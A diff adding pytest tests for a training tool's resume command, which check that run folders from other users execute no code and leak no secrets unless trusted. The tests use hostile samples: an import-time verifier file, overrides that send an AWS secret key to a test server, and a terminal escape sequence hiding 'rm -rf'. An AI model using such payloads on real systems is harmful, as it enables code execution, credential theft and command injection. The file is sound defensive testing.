@@ -1,0 +1,187 @@
+"""Run folders of other people: nothing in them runs, and no secret is sent, unless the user trusts the folder."""
+
+import os
+import shlex
+import shutil
+import stat
+from datetime import datetime
+
+import pytest
+import yaml
+from checkpoint_files import write_checkpoint
+from hostile_server import HostileServer, http
+from typer.testing import CliRunner
+
+from verl_gsd.cli import train
+from verl_gsd.cli.main import app
+from verl_gsd.errors import ConfigError
+from verl_gsd.jobs.submission import resumed_run
+from verl_gsd.run import trust
+from verl_gsd.run.compose import parse_line
+from verl_gsd.rundir import RunDirectory
+
+LINE = ["algo=grpo", "task=arithmetic", "hardware=cpu"]
+
+pytestmark = pytest.mark.usefixtures("composing_is_fast")
+
+
+@pytest.fixture(autouse=True)
+def home(tmp_path, monkeypatch):
+    """A user without a key."""
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    return tmp_path
+
+
+@pytest.fixture
+def run(tmp_path):
+    """A run with a checkpoint that this user started."""
+    run = RunDirectory(tmp_path / "my run")
+    run.path.mkdir()
+    run.overrides.write_text(yaml.safe_dump(LINE))
+    write_checkpoint(run.path, 4)
+    trust.sign(run)
+    return run
+
+
+def resumed(run, *words):
+    return train._line_to_resume(parse_line([f"resume={run.path}", *words]))
+
+
+def test_an_own_run_is_resumed_without_a_further_word(run):
+    assert set(LINE) <= set(resumed(run).words)
+    assert stat.S_IMODE(trust.key_file().stat().st_mode) == 0o600
+
+
+def test_a_foreign_run_runs_nothing_and_sends_nothing_even_in_a_dry_run(tmp_path, monkeypatch):
+    """The reproduction of the audit: code to import, and a variable whose value a server gets as a key."""
+    run = RunDirectory(tmp_path / "gift")
+    run.path.mkdir()
+    write_checkpoint(run.path, 1)
+    (run.path / "verifier.py").write_text(
+        f"open({str(tmp_path / 'owned')!r}, 'w')\ndef compute_score(*_): return 0.0\n"
+    )
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalr-secret")
+    with HostileServer(http(404)) as server:
+        judge = "algorithm.gsd.dagrpo.judge"
+        words = ["hardware=cpu", "task=arithmetic", "algo=dagrpo", f"{judge}.base_url={server.url}"]
+        words += [f"{judge}.api_key_env=AWS_SECRET_ACCESS_KEY"]
+        words += [f"reward.custom_reward_function.path={run.path}/verifier.py"]
+        run.overrides.write_text(yaml.safe_dump(words))
+        line = ["train", f"resume={run.path}", "+algorithm.gsd.state=fresh", "--dry-run"]
+        done = CliRunner().invoke(app, line)
+        assert server.headers == []
+    assert not (tmp_path / "owned").exists()
+    assert done.exit_code == 2
+    assert all(f"  {word}\n" in done.stderr for word in words), "the message names what would run"
+    first = done.stderr.splitlines()[1]
+    assert "base_url" in first, "suspicious words come first"
+    assert f"trust={run.path}" in done.stderr
+
+
+def test_a_word_of_trust_for_this_folder_resumes_a_foreign_run(run):
+    run.signature.unlink()
+    with pytest.raises(ConfigError, match="nothing shows that you started this run"):
+        resumed(run)
+    assert set(LINE) <= set(resumed(run, f"trust={run.path}").words)
+    assert not any(word.startswith("trust=") for word in resumed(run, f"trust={run.path}").words)
+    with pytest.raises(ConfigError, match=r"trust=.*other: .*Set trust=.*my run"):
+        resumed(run, f"trust={run.path.parent}/other")
+    with pytest.raises(ConfigError, match="trust=/a: only works together with resume="):
+        parse_line([*LINE, "trust=/a"])
+
+
+def test_a_word_of_trust_in_the_folder_itself_has_no_effect(run):
+    run.overrides.write_text(yaml.safe_dump([*LINE, f"trust={run.path}", f"resume={run.path}"]))
+    with pytest.raises(ConfigError, match="nothing shows"):
+        resumed(run)
+
+
+@pytest.mark.parametrize("change", ["words", "copy", "key", "no key", "damaged"])
+def test_words_of_somebody_else_are_not_resumed_with_a_signature_of_this_user(run, change, monkeypatch):
+    if change == "words":
+        run.overrides.write_text(yaml.safe_dump([*LINE, "reward.custom_reward_function.path=/a.py"]))
+    elif change == "copy":  # it may have other checkpoints
+        shutil.copytree(run.path, run.path.parent / "copy")
+        run = RunDirectory(run.path.parent / "copy")
+    elif change == "key":
+        trust.key_file().unlink()
+        other = RunDirectory(run.path.parent / "other")
+        other.path.mkdir()
+        other.overrides.write_text(yaml.safe_dump(LINE))
+        trust.sign(other)
+    elif change == "no key":
+        trust.key_file().unlink()
+    else:
+        run.signature.write_bytes(b"\xff\x00")
+    with pytest.raises(ConfigError, match="nothing shows that you started this run"):
+        resumed(run)
+
+
+def test_a_run_is_found_under_another_name_of_the_same_folder(run):
+    link = run.path.parent / "link"
+    link.symlink_to(run.path)
+    assert set(LINE) <= set(resumed(RunDirectory(link)).words)
+
+
+def test_files_that_others_can_write_are_not_resumed(run, monkeypatch):
+    shard = run.checkpoint(4) / "actor" / "model_world_size_1_rank_0.pt"
+    for path, mode in ((run.path, 0o777), (shard.parent, 0o757), (shard, 0o646), (run.overrides, 0o666)):
+        before = path.stat().st_mode
+        path.chmod(mode)
+        with pytest.raises(ConfigError, match=f"other users can write {path}.*chmod -R go-w"):
+            resumed(run)
+        path.chmod(before)
+    shard.chmod(0o664)
+    assert set(LINE) <= set(resumed(run).words), "the group of the user's own name has no other members"
+    monkeypatch.setattr(trust, "_is_own_group", lambda group: False)
+    with pytest.raises(ConfigError, match=f"other users can write {shard}"):
+        resumed(run)
+    assert set(LINE) <= set(resumed(run, f"trust={run.path}").words)
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files to another user")
+def test_a_checkpoint_of_another_user_is_not_resumed(run):
+    shard = run.checkpoint(4) / "actor" / "model_world_size_1_rank_0.pt"
+    os.chown(shard, 65534, -1)
+    with pytest.raises(ConfigError, match=f"{shard} belongs to the user"):
+        resumed(run)
+
+
+def test_a_key_that_others_can_read_is_not_used(run):
+    trust.key_file().chmod(0o644)
+    with pytest.raises(ConfigError, match="other users can read it"):
+        resumed(run)
+    run.signature.unlink()
+    trust.sign(run)
+    assert not run.signature.exists()
+
+
+def test_without_a_place_for_a_key_a_run_starts_unsigned(run, tmp_path, monkeypatch):
+    run.signature.unlink()
+    (tmp_path / "file").touch()
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "file"))
+    trust.sign(run)
+    assert not run.signature.exists()
+
+
+@pytest.mark.parametrize("content", [b"{a: 1}", b"[1]", b"\xff", b"[" * 5_000, b"a: ["], ids=range(5))
+def test_words_that_are_no_list_are_an_error(run, content):
+    run.overrides.write_bytes(content)
+    with pytest.raises(ConfigError, match=r"overrides\.yaml: is damaged"):
+        resumed(run)
+
+
+def test_the_list_of_words_is_safe_to_print(run):
+    words = [f"+a{number}=1" for number in range(200)]
+    run.overrides.write_text(yaml.safe_dump([*words, "+path=\x1b]52;c;cm0gLXJm\x07", f"+y=/{'b' * 1000}"]))
+    with pytest.raises(ConfigError) as rejected:
+        resumed(run)
+    text = str(rejected.value)
+    assert "\x1b" not in text and r"\x1b]52" in text
+    assert "bbb [cut]\n" in text and "and 102 more in" in text
+
+
+def test_a_submitted_resume_takes_the_word_along():
+    job = resumed_run("/runs/a", ["trust=/runs/a"], datetime(2026, 1, 1))
+    line = parse_line(shlex.split(job.entrypoint)[4:])
+    assert (str(line.resume), str(line.trust)) == ("/runs/a", "/runs/a")
